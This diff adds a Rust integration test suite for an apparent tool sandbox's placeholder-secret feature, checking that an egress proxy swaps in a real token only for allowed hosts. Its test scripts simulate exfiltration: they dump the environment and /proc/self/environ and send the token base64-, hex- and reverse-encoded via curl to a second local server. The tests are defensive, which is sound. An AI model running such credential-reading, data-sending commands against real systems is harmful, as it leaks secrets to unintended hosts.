@@ -1,0 +1,496 @@
+//! Placeholder secrets (`permissions.secrets.NAME.hosts`): tool code never
+//! holds the value. The jail gets a placeholder of the same shape; the
+//! egress proxy swaps in the real value only on requests to the secret's
+//! own hosts (HTTPS read with a CA made for the call), and sends the
+//! placeholder unchanged anywhere else. Judged by what local HTTPS servers
+//! with their own CA received, and by what the tool could see and write.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+mod common;
+mod httpkit;
+mod runkit;
+
+use base64::Engine;
+use common::*;
+use httpkit::{Recorded, Reply, Server, TestCa};
+use runkit::*;
+use serde_json::{json, Value};
+
+const SECRET: &str = "ghp_RealTokenValue0123456789abcdefXYZ";
+
+/// Two HTTPS servers with a test CA (the secret's host answers with the
+/// Authorization it got, so a reflection is caught too), and a project
+/// that trusts that CA for the proxy's own TLS.
+struct Setup {
+    named: Server,
+    other: Server,
+    f: Fixture,
+}
+
+fn echo(r: &Recorded) -> Reply {
+    Reply::json(json!({"auth": r.header("authorization").unwrap_or(""), "path": r.path}))
+}
+
+fn setup() -> Option<Setup> {
+    if !jail_available() {
+        return None;
+    }
+    let ca = TestCa::new();
+    let named = Server::start_tls(&ca, echo);
+    let other = Server::start_tls(&ca, echo);
+    let f = Fixture::new();
+    ca.write_pem(&f.root.join("test-ca.pem"));
+    f.config(
+        &json!({"security": {"http": {"allow_private": true, "extra_ca_file": "test-ca.pem"}}}),
+    );
+    Some(Setup { named, other, f })
+}
+
+fn hosts_of(s: &Server) -> String {
+    format!("127.0.0.1:{}", s.port())
+}
+
+impl Setup {
+    /// A command tool running `script` with TOKEN a placeholder secret for
+    /// the named server; it may reach both servers and write `out/`.
+    fn tool(&self, name: &str, script: &str, secret: Value) {
+        std::fs::create_dir_all(self.f.root.join("out")).unwrap();
+        self.f.tool(&command_tool(
+            name,
+            schema(json!({})),
+            json!({"entrypoint": "/bin/sh", "args": ["-c", script]}),
+            json!({
+                "network": {"allow": [hosts_of(&self.named), hosts_of(&self.other)]},
+                "fs": {"read": ["."], "write": ["out"]},
+                "secrets": {"TOKEN": secret},
+            }),
+        ));
+    }
+
+    fn secret(&self) -> Value {
+        json!({"hosts": [hosts_of(&self.named)]})
+    }
+
+    fn run(&self, name: &str) -> runkit::Called {
+        let state = self.f.state();
+        self.f.run_env(
+            name,
+            &[],
+            &[("TOKEN", SECRET), ("GLOVEBOX_STATE_DIR", path_str(&state))],
+        )
+    }
+}
+
+/// The namespace-free jail has no egress proxy: a networked call with a
+/// placeholder secret is refused before it runs, like any networked call.
+fn refused_without_namespaces(s: &Setup) -> bool {
+    if !namespace_free() {
+        return false;
+    }
+    s.tool("t", "echo $TOKEN", s.secret());
+    let r = s.run("t");
+    assert_eq!(r.json["ok"], false, "{r:#?}");
+    assert!(!r.mentions(SECRET), "{r:#?}");
+    true
+}
+
+/// Every request's Authorization at the named host was the real token.
+fn all_real(s: &Server) -> usize {
+    let reqs = s.requests();
+    for r in &reqs {
+        assert_eq!(
+            r.header("authorization"),
+            Some(&*format!("Bearer {SECRET}")),
+            "{r:#?}"
+        );
+    }
+    reqs.len()
+}
+
+fn reversed(s: &str) -> String {
+    s.chars().rev().collect()
+}
+
+/// True when `text` carries the secret in any form a tool might encode it.
+fn leaks(text: &str) -> bool {
+    let b64 = base64::engine::general_purpose::STANDARD.encode(SECRET);
+    text.contains(SECRET)
+        || text.contains(&b64)
+        || text.contains(b64.trim_end_matches('='))
+        || text.contains(&reversed(SECRET))
+        || text.contains(&hex::encode(SECRET))
+        || text.contains(&SECRET[4..20])
+}
+
+#[test]
+fn curl_python_and_git_send_the_real_token_to_its_host_only() {
+    let Some(s) = setup() else { return };
+    if refused_without_namespaces(&s) {
+        return;
+    }
+    let (a, b) = (s.named.origin(), s.other.origin());
+    let script = format!(
+        r#"set -e
+curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" {a}/curl; echo
+curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" {b}/curl; echo
+python3 - <<'EOF'
+import os, urllib.request
+for url in ["{a}/urllib", "{b}/urllib"]:
+    req = urllib.request.Request(url, headers={{"Authorization": "Bearer " + os.environ["TOKEN"]}})
+    print(urllib.request.urlopen(req, timeout=20).read().decode())
+EOF
+git -c http.extraHeader="Authorization: Bearer $TOKEN" ls-remote {a}/repo.git >/dev/null 2>&1 || true
+echo TOKEN=$TOKEN
+"#
+    );
+    s.tool("calls", &script, s.secret());
+    let r = s.run("calls");
+    r.assert_ok();
+    // Proof it ran: both clients reached each server, and git (through
+    // GIT_SSL_CAINFO) the named one.
+    assert!(all_real(&s.named) >= 3, "{r:#?}");
+    assert!(
+        s.named
+            .requests()
+            .iter()
+            .any(|q| q.path.starts_with("/repo.git/")),
+        "{:#?}",
+        s.named.requests()
+    );
+    let elsewhere = s.other.requests();
+    assert_eq!(elsewhere.len(), 2, "{r:#?}");
+    let out = r.text();
+    let shown = out
+        .lines()
+        .find_map(|l| l.strip_prefix("TOKEN="))
+        .expect("the tool printed its TOKEN");
+    assert_eq!(shown.len(), SECRET.len());
+    assert!(shown.starts_with("ghp_") && shown != SECRET);
+    for req in &elsewhere {
+        assert_eq!(
+            req.header("authorization"),
+            Some(&*format!("Bearer {shown}")),
+            "{req:#?}"
+        );
+        assert!(!leaks(&req.raw()), "{req:#?}");
+    }
+    // The named host echoed the real token: the tool saw the placeholder.
+    assert!(
+        out.contains(&format!("\"auth\":\"Bearer {shown}\"")),
+        "{out}"
+    );
+    assert!(!leaks(&r.json.to_string()), "{r:#?}");
+    // Elsewhere went through an untouched tunnel: nothing was swapped there.
+    // The audit line records the uses per host, names and counts only.
+    let log = s.f.audit_log();
+    let line = log
+        .lines()
+        .rev()
+        .find(|l| l.contains("TOOL_EXECUTED") && l.contains("placeholders="))
+        .unwrap_or_else(|| panic!("no placeholders field: {log}"));
+    assert!(line.contains("\"secret\":\"TOKEN\""), "{line}");
+    let count = |key: &str| -> usize {
+        let at = line
+            .find(&format!("\"{key}\":"))
+            .unwrap_or_else(|| panic!("{key}: {line}"));
+        let digits: String = line[at + key.len() + 3..]
+            .chars()
+            .take_while(char::is_ascii_digit)
+            .collect();
+        digits.parse().unwrap()
+    };
+    let named = s.named.requests().len();
+    assert_eq!(count("swapped"), named, "{line}");
+    assert_eq!(count("hidden"), named, "{line}");
+    assert!(!leaks(line) && !line.contains(shown), "{line}");
+    let verify = s.f.glovebox(&["audit", "--verify"]);
+    assert!(verify.status.success(), "{verify:?}");
+}
+
+#[test]
+fn the_tool_never_holds_the_value_and_encodings_carry_the_placeholder() {
+    let Some(s) = setup() else { return };
+    if refused_without_namespaces(&s) {
+        return;
+    }
+    let (a, b) = (s.named.origin(), s.other.origin());
+    let script = format!(
+        r#"env > out/env.txt
+cat /proc/self/environ > out/environ.bin
+echo "$TOKEN" > out/token.txt
+echo PROBE-RAN
+B64=$(printf %s "$TOKEN" | base64 -w0)
+REV=$(printf %s "$TOKEN" | rev)
+HEX=$(printf %s "$TOKEN" | od -An -tx1 | tr -d ' \n')
+curl -sS --max-time 20 "{b}/x?b=$B64&r=$REV&h=$HEX" -H "X-Token: $TOKEN" -d "t=$TOKEN" >/dev/null
+curl -sS --max-time 20 "{a}/x?b=$B64&r=$REV" -d "body=$TOKEN" >/dev/null
+true
+"#
+    );
+    s.tool("exfil", &script, s.secret());
+    let r = s.run("exfil");
+    r.assert_ok();
+    assert!(r.text().contains("PROBE-RAN"), "{r:#?}");
+    for f in ["env.txt", "environ.bin", "token.txt"] {
+        let bytes = std::fs::read(s.f.root.join("out").join(f)).unwrap();
+        let text = String::from_utf8_lossy(&bytes);
+        assert!(f == "token.txt" || text.contains("TOKEN="), "{f}: {text}");
+        assert!(!leaks(&text), "{f} holds the value: {text}");
+    }
+    let token = std::fs::read_to_string(s.f.root.join("out/token.txt")).unwrap();
+    assert_eq!(token.trim().len(), SECRET.len());
+    // Both servers got a request; neither got the value in any form:
+    // the named host's body (headers only by default) and query included.
+    let (named, other) = (s.named.requests(), s.other.requests());
+    assert_eq!((named.len(), other.len()), (1, 1), "{r:#?}");
+    for req in named.iter().chain(other.iter()) {
+        assert!(!leaks(&req.raw()), "{req:#?}");
+        assert!(req.raw().contains(token.trim()), "{req:#?}");
+    }
+}
+
+#[test]
+fn a_pinned_client_fails_with_a_clear_message() {
+    let Some(s) = setup() else { return };
+    if refused_without_namespaces(&s) {
+        return;
+    }
+    // curl trusting only the host's real CA: the call's CA is refused.
+    let pem = path_str(&s.f.root.join("test-ca.pem")).to_string();
+    let script = format!(
+        r#"curl -sS --max-time 20 --cacert {pem} -H "Authorization: Bearer $TOKEN" {}/pinned 2>&1; echo "curl=$?""#,
+        s.named.origin()
+    );
+    s.tool("pinned", &script, s.secret());
+    let r = s.run("pinned");
+    r.assert_ok();
+    let out = r.text();
+    assert!(out.contains("curl=60") || out.contains("curl=35"), "{out}");
+    assert!(s.named.requests().is_empty(), "{:#?}", s.named.requests());
+    let warnings = r.json["warnings"].to_string();
+    assert!(
+        warnings.contains("does not trust glovebox's per-call CA")
+            && warnings.contains("secret TOKEN was not sent"),
+        "{r:#?}"
+    );
+    assert!(!leaks(&r.json.to_string()));
+}
+
+#[test]
+fn two_concurrent_calls_get_different_placeholders_and_cas() {
+    let Some(s) = setup() else { return };
+    if refused_without_namespaces(&s) {
+        return;
+    }
+    let script = format!(
+        r#"echo "TOKEN=$TOKEN"
+echo "BUNDLE=$SSL_CERT_FILE"
+for v in REQUESTS_CA_BUNDLE CURL_CA_BUNDLE NODE_EXTRA_CA_CERTS GIT_SSL_CAINFO PIP_CERT; do eval "test \"\$$v\" = \"$SSL_CERT_FILE\"" || echo "MISMATCH $v"; done
+tail -n 12 "$SSL_CERT_FILE" | grep -v -- ----- | tr -d '\n'; echo
+curl -sS --max-time 20 -H "Authorization: Bearer $TOKEN" {}/c >/dev/null"#,
+        s.named.origin()
+    );
+    s.tool("twice", &script, s.secret());
+    let calls: Vec<_> = (0..2)
+        .map(|_| {
+            let root = s.f.root.clone();
+            let cwd = s.f.cwd.clone();
+            let state = s.f.state();
+            std::thread::spawn(move || {
+                let state = path_str(&state).to_string();
+                call_glovebox(
+                    &root,
+                    &cwd,
+                    "twice",
+                    &[],
+                    &[("TOKEN", SECRET), ("GLOVEBOX_STATE_DIR", &state)],
+                )
+            })
+        })
+        .collect();
+    let outs: Vec<String> = calls
+        .into_iter()
+        .map(|c| {
+            let r = c.join().unwrap();
+            r.assert_ok();
+            r.text().to_string()
+        })
+        .collect();
+    for o in &outs {
+        assert!(!o.contains("MISMATCH"), "{o}");
+        assert!(o.contains("BUNDLE=/"), "{o}");
+    }
+    let token = |o: &str| {
+        o.lines()
+            .find(|l| l.starts_with("TOKEN="))
+            .unwrap()
+            .to_string()
+    };
+    let ca = |o: &str| o.lines().nth(2).unwrap().to_string();
+    assert_ne!(token(&outs[0]), token(&outs[1]));
+    assert_ne!(ca(&outs[0]), ca(&outs[1]));
+    assert_eq!(all_real(&s.named), 2);
+}
+
+#[test]
+fn plain_http_gets_the_injected_header_and_opted_in_bodies() {
+    require_jail!();
+    let named = Server::start(echo);
+    let other = Server::start(echo);
+    let f = Fixture::new();
+    f.config(&json!({"security": {"http": {"allow_private": true}}}));
+    let s = Setup { named, other, f };
+    if refused_without_namespaces(&s) {
+        return;
+    }
+    let script = format!(
+        r#"curl -sS --max-time 20 -d "token=$TOKEN" {}/in; echo
+curl -sS --max-time 20 -d "token=$TOKEN" {}/out; echo"#,
+        s.named.origin(),
+        s.other.origin()
+    );
+    s.tool(
+        "inject",
+        &script,
+        json!({"hosts": [hosts_of(&s.named)], "inject": {"header": "X-Api-Key", "format": "key {}"}, "body": true}),
+    );
+    let r = s.run("inject");
+    r.assert_ok();
+    let got = s.named.only();
+    assert_eq!(got.header("x-api-key"), Some(&*format!("key {SECRET}")));
+    assert_eq!(
+        String::from_utf8_lossy(&got.body),
+        format!("token={SECRET}")
+    );
+    let elsewhere = s.other.only();
+    assert!(!leaks(&elsewhere.raw()), "{elsewhere:#?}");
+    assert_eq!(elsewhere.header("x-api-key"), None);
+    assert!(
+        r.json["warnings"].to_string().contains(&format!(
+            "refused use of secret TOKEN on {}",
+            hosts_of(&s.other)
+        )),
+        "{r:#?}"
+    );
+    assert!(!leaks(&r.json.to_string()), "{r:#?}");
+}
+
+#[test]
+fn a_secret_without_hosts_is_still_the_value_and_short_values_are_refused() {
+    let Some(s) = setup() else { return };
+    s.tool("plain", "echo \"TOKEN=$TOKEN\"", json!({}));
+    let r = s.run("plain");
+    if namespace_free() {
+        assert!(!r.mentions(SECRET), "{r:#?}");
+        return;
+    }
+    r.assert_ok();
+    // Redacted on the way back, as before.
+    assert!(r.text().contains("[REDACTED:TOKEN]"), "{r:#?}");
+    s.tool("short", "echo ran", s.secret());
+    let state = s.f.state();
+    let r = s.f.run_env(
+        "short",
+        &[],
+        &[("TOKEN", "ab-12"), ("GLOVEBOX_STATE_DIR", path_str(&state))],
+    );
+    r.assert_failed("secret_missing", 1);
+    assert!(r.message().contains("too few for a placeholder"), "{r:#?}");
+}
+
+#[test]
+fn a_python_tool_over_socks5_and_connect_gets_the_same_swap() {
+    let Some(s) = setup() else { return };
+    if refused_without_namespaces(&s) {
+        return;
+    }
+    // SOCKS5 by name (curl), then a python tool (urllib through CONNECT).
+    let script = format!(
+        r#"curl -sS --max-time 20 -x socks5h://127.0.0.1:3128 -H "Authorization: Bearer $TOKEN" {}/socks"#,
+        s.named.origin()
+    );
+    s.tool("socks", &script, s.secret());
+    s.run("socks").assert_ok();
+    s.f.file(
+        "fetch.py",
+        &format!(
+            r#"import os, urllib.request
+def fetch():
+    out = []
+    for url in ["{}/py", "{}/py"]:
+        req = urllib.request.Request(url, headers={{"Authorization": "Bearer " + os.environ["TOKEN"]}})
+        out.append(urllib.request.urlopen(req, timeout=20).read().decode())
+    return {{"answers": out, "token": os.environ["TOKEN"]}}
+"#,
+            s.named.origin(),
+            s.other.origin()
+        ),
+    );
+    s.f.tool(&python_tool(
+        "pyfetch",
+        schema(json!({})),
+        json!({"module": "fetch", "function": "fetch"}),
+        json!({
+            "network": {"allow": [hosts_of(&s.named), hosts_of(&s.other)]},
+            "fs": {"read": ["."], "write": []},
+            "secrets": {"TOKEN": s.secret()},
+        }),
+    ));
+    let r = s.run("pyfetch");
+    r.assert_ok();
+    assert_eq!(all_real(&s.named), 2, "{r:#?}");
+    let token = r.output()["token"].as_str().unwrap().to_string();
+    assert_eq!(token.len(), SECRET.len());
+    let other = s.other.only();
+    assert_eq!(
+        other.header("authorization"),
+        Some(&*format!("Bearer {token}"))
+    );
+    assert!(
+        !leaks(&other.raw()) && !leaks(&r.json.to_string()),
+        "{r:#?}"
+    );
+}
+
+#[test]
+fn a_large_body_keeps_its_length_and_gets_the_value_where_it_opted_in() {
+    let Some(s) = setup() else { return };
+    if refused_without_namespaces(&s) {
+        return;
+    }
+    // 1 MiB of filler with the placeholder at the start, across the
+    // usual 16 KiB and 64 KiB boundaries and at the very end.
+    let script = format!(
+        r#"python3 - <<'EOF'
+import os, urllib.request
+t = os.environ["TOKEN"].encode()
+body = bytearray(b"x" * (1 << 20))
+for at in (0, 16384 - 7, 65536 - 20, len(body) - len(t)):
+    body[at:at + len(t)] = t
+req = urllib.request.Request("{}/big", data=bytes(body), method="POST")
+print(urllib.request.urlopen(req, timeout=30).status)
+EOF"#,
+        s.named.origin()
+    );
+    s.tool(
+        "upload",
+        &script,
+        json!({"hosts": [hosts_of(&s.named)], "body": true}),
+    );
+    let r = s.run("upload");
+    r.assert_ok();
+    assert_eq!(r.text().trim(), "200", "{r:#?}");
+    let got = s.named.only();
+    assert_eq!(got.body.len(), 1 << 20);
+    let text = String::from_utf8_lossy(&got.body);
+    assert_eq!(
+        text.matches(SECRET).count(),
+        4,
+        "the value at each of the 4 places"
+    );
+    assert_eq!(
+        text.bytes().filter(|b| *b == b'x').count(),
+        (1 << 20) - 4 * SECRET.len()
+    );
+}
